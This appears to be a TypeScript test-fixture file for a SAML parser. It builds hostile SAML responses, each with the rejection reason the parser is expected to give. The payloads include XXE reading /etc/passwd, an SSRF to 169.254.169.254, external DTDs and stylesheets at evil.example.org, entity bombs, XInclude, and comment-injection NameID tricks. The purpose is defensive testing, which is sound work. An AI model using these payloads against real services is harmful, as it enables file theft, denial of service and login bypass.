import { assertionNamespace, responseText, signedAssertion } from '../documents.ts'
import { type HostileDocument, hostile, replaced } from './document.ts'

const documentType = 'The document contains a document type or an entity declaration'
const comment = 'The document contains a comment'
const instruction = 'The document contains a processing instruction'
const section = 'The document contains a CDATA section'
const malformed = 'The document is not well-formed XML'
const entity = 'The document refers to an unknown entity'
const reservedName = 'An element or attribute has a reserved name'
const character = 'The document contains a character that XML does not allow'
const reference = 'A character reference names a character that XML does not allow'

const nameId = '>ada@example.com</saml:NameID>'

/** A valid response with a text before it. */
const after = (name: string, reason: string, start: string, [from, to]: readonly [string, string] = ['', '']): HostileDocument =>
  hostile(name, reason, ({ own }) => start + replaced(responseText(signedAssertion(own)), from, to))

/** A valid response with a replaced text. */
const changed = (name: string, reason: string, from: string, to: string): HostileDocument => after(name, reason, '', [from, to])

/** A response whose NameID has this text under a valid signature. */
const named = (name: string, reason: string, text: string): HostileDocument =>
  hostile(name, reason, ({ own }) => responseText(signedAssertion(own, { nameId: text })))

const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')

const entities: readonly HostileDocument[] = [
  after('an empty document type', documentType, '<!DOCTYPE samlp:Response>'),
  after('a billion laughs', documentType, `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]>`, [nameId, '>&l9;</saml:NameID>']),
  after('a quadratic bomb of entities', documentType, `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]>`, [
    nameId,
    `>${'&a;'.repeat(1_900)}</saml:NameID>`,
  ]),
  after('an external entity with a file', documentType, '<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>', [
    nameId,
    '>&f;</saml:NameID>',
  ]),
  after('an external entity with an address', documentType, '<!DOCTYPE r [<!ENTITY f SYSTEM "http://169.254.169.254/">]>'),
  after('an external document type', documentType, '<!DOCTYPE r SYSTEM "http://evil.example.org/evil.dtd">'),
  after('a parameter entity', documentType, '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example.org/evil.dtd">%p;]>'),
  after('an entity that changes the NameID', documentType, '<!DOCTYPE r [<!ENTITY n "root">]>', [nameId, '>&n;</saml:NameID>']),
  after('an attribute with a default value', documentType, '<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID "_evil">]>'),
  changed('a document type after the root began', documentType, '<samlp:Status>', '<!DOCTYPE r><samlp:Status>'),
  changed('an unknown entity', entity, nameId, '>&nbsp;</saml:NameID>'),
  changed('an ampersand without an entity', entity, nameId, '>a & b</saml:NameID>'),
]

const comments: readonly HostileDocument[] = [
  changed('a comment in the NameID', comment, nameId, '>root@example.com<!---->.evil.org</saml:NameID>'),
  named('a comment in the NameID that the provider signed', comment, 'root@example.com<!---->.evil.org'),
  changed('a comment in the digest', comment, '<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->'),
  changed('a comment in the signature value', comment, '<ds:SignatureValue>', '<ds:SignatureValue><!--AAAA-->'),
  after('a comment before the root', comment, '<!-- -->'),
  hostile('a comment after the root', comment, ({ own }) => `${responseText(signedAssertion(own))}<!-- -->`),
  changed('a processing instruction in the NameID', instruction, nameId, '>root@example.com<?x?>.evil.org</saml:NameID>'),
  after('a style sheet', instruction, '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example.org/x.xsl"?>'),
  changed('a CDATA section in the NameID', section, nameId, '>ada@<![CDATA[example.com]]></saml:NameID>'),
  changed('a CDATA section with markup', section, '>operators<', '><![CDATA[</saml:AttributeValue>]]>operators<'),
]

const declarations: readonly HostileDocument[] = [
  after('XML 1.1', instruction, '<?xml version="1.1"?>'),
  after('a declaration of ISO-8859-1', instruction, '<?xml version="1.0" encoding="ISO-8859-1"?>'),
  after('a declaration of UTF-7', instruction, '<?xml version="1.0" encoding="UTF-7"?>'),
  after('a declaration of UTF-16', instruction, '<?xml version="1.0" encoding="UTF-16"?>'),
  after('a declaration after a line end', instruction, '\n<?xml version="1.0"?>'),
  after('two declarations', instruction, '<?xml version="1.0"?><?xml version="1.0"?>'),
]

const names: readonly HostileDocument[] = [
  changed('xml:base', reservedName, ' Version=', ' xml:base="http://evil.example.org/" Version='),
  changed('xml:id', reservedName, ' Version=', ' xml:id="_assertion-1" Version='),
  changed('xml:space', reservedName, ' Version=', ' xml:space="preserve" Version='),
  changed('an attribute that resembles a declaration', reservedName, ' Version=', ' xmlnsx="urn:x" Version='),
  changed(
    'another namespace for the prefix xml',
    'A declaration of a namespace uses a reserved prefix',
    ' Version=',
    ' xmlns:xml="urn:x" Version=',
  ),
  changed(
    'a prefix for the namespace of declarations',
    'A declaration of a namespace uses a reserved namespace',
    ' Version=',
    ' xmlns:n="http://www.w3.org/2000/xmlns/" Version=',
  ),
  changed('a prefix without a declaration', 'The namespace of a prefix is not declared', '<samlp:Status>', '<x:Status>'),
  changed('a prefix whose namespace is removed', 'A declaration removes the namespace of a prefix', ' Version=', ' xmlns:saml="" Version='),
  changed(
    'a prefix with another namespace inside',
    'A prefix has two namespaces in nested elements',
    '<saml:NameID ',
    '<saml:NameID xmlns:saml="urn:x" ',
  ),
  changed(
    'two declarations of a prefix',
    'An element declares a namespace twice',
    '<saml:Assertion ',
    `<saml:Assertion xmlns:saml="${assertionNamespace}" `,
  ),
  changed('an attribute twice', 'An element has an attribute twice', ' Version=', ' Version="2.0" Version='),
  changed(
    'an attribute twice by two prefixes',
    'An element has an attribute twice',
    ' Version=',
    ' xmlns:a="urn:x" xmlns:b="urn:x" a:ID="1" b:ID="2" Version=',
  ),
  changed(
    'the ID of the assertion as Id of another element',
    'Two attributes have the same ID',
    '<samlp:Status>',
    '<samlp:Status Id="_assertion-1">',
  ),
  changed(
    'the ID of the assertion as id of a namespace',
    'Two attributes have the same ID',
    '<samlp:Status>',
    '<samlp:Status xmlns:a="urn:x" a:id="_assertion-1">',
  ),
  changed('the ID of the assertion for the Response', 'Two attributes have the same ID', '_response-1', '_assertion-1'),
  changed('an element name with a letter of another script', malformed, '<samlp:Status>', '<samlp:St\u0430tus>'),
  changed(
    'an element of XInclude',
    'The element Response contains an element that is not supported',
    '<samlp:Status>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"></xi:include><samlp:Status>',
  ),
]

const syntax: readonly HostileDocument[] = [
  hostile('text after the root', 'The document continues after its root element', ({ own }) => `${responseText(signedAssertion(own))}x`),
  after('text before the root', malformed, 'x'),
  changed('a closing tag of another element', malformed, '</samlp:Status>', '</samlp:Stat>'),
  hostile('a missing end', malformed, ({ own }) => responseText(signedAssertion(own)).slice(0, -3)),
  changed('an attribute without quotes', malformed, ' Version="2.0"', ' Version=2.0'),
  changed('an opening bracket in an attribute', malformed, ' Version="2.0"', ' Version="<2.0"'),
  changed('the end of a CDATA section in text', malformed, nameId, '>ada]]></saml:NameID>'),
  changed('a line end in an attribute', 'An attribute contains a line end or a tab', ' Version="2.0"', ' Version="2.0\n"'),
  changed('text between the elements of the Response', 'The element Response contains text', '<samlp:Status>', 'x<samlp:Status>'),
  changed('NUL in the NameID', character, nameId, '>ada\u0000@example.com</saml:NameID>'),
  changed('a control character in the NameID', character, nameId, '>ada\u0008@example.com</saml:NameID>'),
  changed('a line end of XML 1.1', character, nameId, '>ada\u0085@example.com</saml:NameID>'),
  changed('a reference to NUL', reference, nameId, '>ada&#0;</saml:NameID>'),
  changed('a reference to a control character', reference, nameId, '>ada&#x8;</saml:NameID>'),
  changed('a reference to half of a character', reference, nameId, '>ada&#xD800;</saml:NameID>'),
  changed('a reference beyond Unicode', reference, nameId, '>ada&#x110000;</saml:NameID>'),
  named(
    'a reference to a carriage return in the NameID',
    'The NameID is too long, or has white space or control characters',
    'ada&#xD;@example.com',
  ),
]

/** Markup that SAML does not need, and names that two parsers could read differently. */
export const markup: readonly HostileDocument[] = [...entities, ...comments, ...declarations, ...names, ...syntax]
